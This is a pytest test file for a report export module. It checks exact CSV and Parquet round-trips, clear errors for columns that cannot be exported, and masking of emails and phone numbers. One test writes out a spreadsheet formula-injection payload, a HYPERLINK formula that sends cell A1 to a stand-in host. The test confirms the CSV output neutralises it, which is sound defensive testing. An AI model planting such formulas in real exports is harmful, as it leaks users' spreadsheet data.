"""Downloads equal the frame to the last digit, or the cell says which column cannot be one."""

from __future__ import annotations

import datetime as dt
import io
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest

from lucky_analytics.errors import ParameterError
from lucky_analytics.report_data import decode, encode, remove_private, write_csv_text


def csv_of(frame: pd.DataFrame) -> str:
    return "".join(write_csv_text(decode(encode(frame, "table t"))))


COLUMNS = {
    "small and long floats": pd.Series([1e-12, 0.12345678901234567, 1e300, -0.0]),
    "infinite": pd.Series([float("inf"), float("-inf"), 1.5]),
    "single precision": pd.Series([0.1, 1 / 3], dtype="float32"),
    "uint64": pd.Series([2**64 - 1, 2**63, 0], dtype="uint64"),
    "whole": pd.Series([-(2**63), 2**53 + 1]),
    "nullable whole": pd.Series([2**53 + 1, None], dtype="Int64"),
    "flags": pd.Series([True, False, None], dtype="boolean"),
    "text": pd.Series(["a,b", 'q"q', "line\nend", " blank ", "é"]),
    "days": pd.Series(pd.to_datetime(["2026-02-13", "2026-02-14"])),
    "moments": pd.Series(pd.to_datetime(["2026-02-13 04:58:00.123456", None])),
    "nanoseconds": pd.Series(pd.to_datetime(["2026-02-13 04:58:00.123456789"]).as_unit("ns")),
    "zoned": pd.Series(pd.to_datetime(["2026-02-13 04:58"]).tz_localize("America/New_York")),
    "the last year": pd.Series([dt.datetime(9999, 12, 31)], dtype="datetime64[us]"),
    "durations": pd.Series(pd.to_timedelta(["1 days 02:00:00", None])),
    "categories": pd.Series(["low", "high", None], dtype="category"),
}


@pytest.mark.parametrize("name", COLUMNS)
def test_parquet_gives_the_column_back(name):
    frame = COLUMNS[name].to_frame("x")
    back = decode(encode(frame, "table t")).to_pandas()
    pd.testing.assert_frame_equal(back, frame, check_freq=False)


@pytest.mark.parametrize("name", [n for n in COLUMNS if n not in ("text", "categories")])
def test_csv_gives_the_values_back(name):
    column = COLUMNS[name]
    dates = ["x"] if pd.api.types.is_datetime64_any_dtype(column.dtype) else None
    kind = None if dates or "timedelta" in str(column.dtype) else {"x": column.dtype}
    back = pd.read_csv(io.StringIO(csv_of(column.to_frame("x"))), dtype=kind, parse_dates=dates)["x"]
    if "timedelta" in str(column.dtype):
        back = pd.to_timedelta(back)
    pd.testing.assert_series_equal(back, column, check_names=False, check_dtype=False, check_exact=True)


@pytest.mark.parametrize(
    ("values", "lines"),
    [
        ([Decimal("4.70"), Decimal("1E-12"), None], ["4.700000000000", "0.000000000001", ""]),
        ([Decimal(10) ** 40], ["1" + "0" * 40]),
        ([dt.date(9999, 12, 31), None], ["9999-12-31", ""]),
        ([dt.datetime(9999, 12, 31, 23, 59)], ["9999-12-31 23:59:00"]),
        ([dt.time(8, 30)], ["08:30:00"]),
        ([2**64 - 1, None], ["18446744073709551615", ""]),
        ([1, 2.5, None], ["1.0", "2.5", ""]),
        ([pd.NA, "a", None, float("nan")], ["", "a", "", ""]),
        (["", None], ['""', ""]),
        (list(pd.period_range("2026-01", periods=1, freq="M")), ["2026-01"]),
        ([pd.Interval(0, 5)], ['"(0, 5]"']),
        (pd.cut(pd.Series([1, 7]), [0, 5, 10]), ['"(0, 5]"', '"(5, 10]"']),
        (pd.period_range("2026-01", periods=1, freq="Q").to_series(index=[0]), ["2026Q1"]),
    ],
)
def test_what_analysts_have_in_their_frames_is_carried(values, lines):
    column = pd.Series(values, dtype=None if hasattr(values, "dtype") else object)
    text = csv_of(pd.DataFrame({"x": column, "n": 1}))
    assert text.split("\n") == ["x,n", *(f"{line},1" for line in lines), ""]


@pytest.mark.parametrize(
    ("values", "words"),
    [
        ([1, "a"], "mixed types int, str"),
        ([True, 5], "mixed types bool, int"),
        ([b"\x00\xff"], "got binary"),
        ([["a", "b"]], "got list"),
        ([{"a": 1}], "got struct"),
        ([{1, 2}], "list"),
        ([1 + 2j], "complex"),
        ([object()], "object"),
        ([2**70], "int"),
        (["\ud800"], "str"),
    ],
)
def test_what_no_download_can_carry_is_one_line_at_the_cell(values, words):
    frame = pd.DataFrame({"good": [0] * len(values), "x": pd.Series(values, dtype=object)})
    with pytest.raises(ParameterError, match=r"table t, column x: expected .*Give the column one") as raised:
        encode(remove_private(frame)[0], "table t")  # as report.table does
    assert words in str(raised.value)
    assert "\n" not in str(raised.value)


@pytest.mark.parametrize("kind", ["object", "str", "string", "category"])
def test_what_looks_personal_is_taken_out_of_texts_of_any_kind(kind):
    texts = pd.Series(
        ["ann@example.com", "221 Grand", "+1 917 555 0100", "ann@example.com", None], dtype=kind
    )
    cleaned, n = remove_private(pd.DataFrame({"x": texts, "n": range(5)}))
    assert n == 3 and str(cleaned["x"].dtype) == str(texts.dtype)
    assert cleaned["x"].astype(object).tolist()[:4] == ["[removed]", "221 Grand", "[removed]", "[removed]"]
    assert cleaned["x"].isna().tolist() == [False] * 4 + [True] and texts[0] == "ann@example.com"


def test_a_column_that_is_named_after_a_person_is_refused_without_its_name():
    with pytest.raises(ParameterError, match="table: expected names of columns without mail") as refused:
        remove_private(pd.DataFrame({"ann@example.com": [1]}))
    assert "ann@" not in str(refused.value)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"])
def test_text_that_a_spreadsheet_would_run_is_led_by_an_apostrophe(start):
    formula = f'{start}HYPERLINK("http://x"&A1,"Latte")'
    frame = pd.DataFrame({formula: [formula], "n": [-5], "d": [Decimal("-1.5")]})
    header, row = pd.read_csv(io.StringIO(csv_of(frame)), header=None, dtype=str).to_numpy().tolist()
    assert header[0].replace("\r", "\n") == row[0].replace("\r", "\n")
    assert row[0].startswith("'") and row[1:] == ["-5", "-1.5"]
    assert decode(encode(frame, "table t")).column(0).to_pylist() == [formula]  # Parquet holds it as it is


def test_a_category_that_is_a_formula_is_neutralised_too():
    assert csv_of(pd.DataFrame({"x": pd.Series(["=1+1"], dtype="category")})) == "x\n'=1+1\n"


def test_a_labelled_index_is_part_of_the_frame_and_a_numbering_is_not():
    frame = pd.DataFrame({"n": [1, 2]}, index=pd.Index(["a", "b"], name="store"))
    assert decode(encode(frame, "t")).column_names == ["store", "n"]
    assert decode(encode(frame.rename_axis(None), "t")).column_names == ["index", "n"]
    assert decode(encode(frame.reset_index().iloc[::-1], "t")).to_pydict() == {
        "store": ["b", "a"],
        "n": [2, 1],
    }
    nested = frame.set_index(pd.MultiIndex.from_tuples([(1, "x"), (1, "y")], names=["k", None]))
    assert decode(encode(nested, "t")).column_names == ["k", "level_1", "n"]


def test_columns_that_share_a_name_are_refused():
    with pytest.raises(ParameterError, match="each column name once, got a"):
        encode(pd.DataFrame([[1, 2]], columns=["a", "a"]), "t")
    with pytest.raises(ParameterError, match="each column name once, got 1"):
        encode(pd.DataFrame([[1, 2]], columns=[1, "1"]), "t")
    with pytest.raises(ParameterError, match="expected one header row"):
        encode(pd.DataFrame([[1]], columns=pd.MultiIndex.from_tuples([("a", "b")])), "t")
    with pytest.raises(ParameterError, match="expected a pandas frame, got Series"):
        encode(pd.Series([1]), "t")


def test_the_same_frame_gives_the_same_text_and_an_empty_one_keeps_its_columns():
    frame = pd.DataFrame({"x": np.arange(1000.0), "y": ["a"] * 1000})
    assert encode(frame, "t") == encode(frame.copy(), "t")
    assert decode(encode(frame.head(0), "t")).column_names == ["x", "y"]
    assert csv_of(frame.head(0)) == "x,y\n"
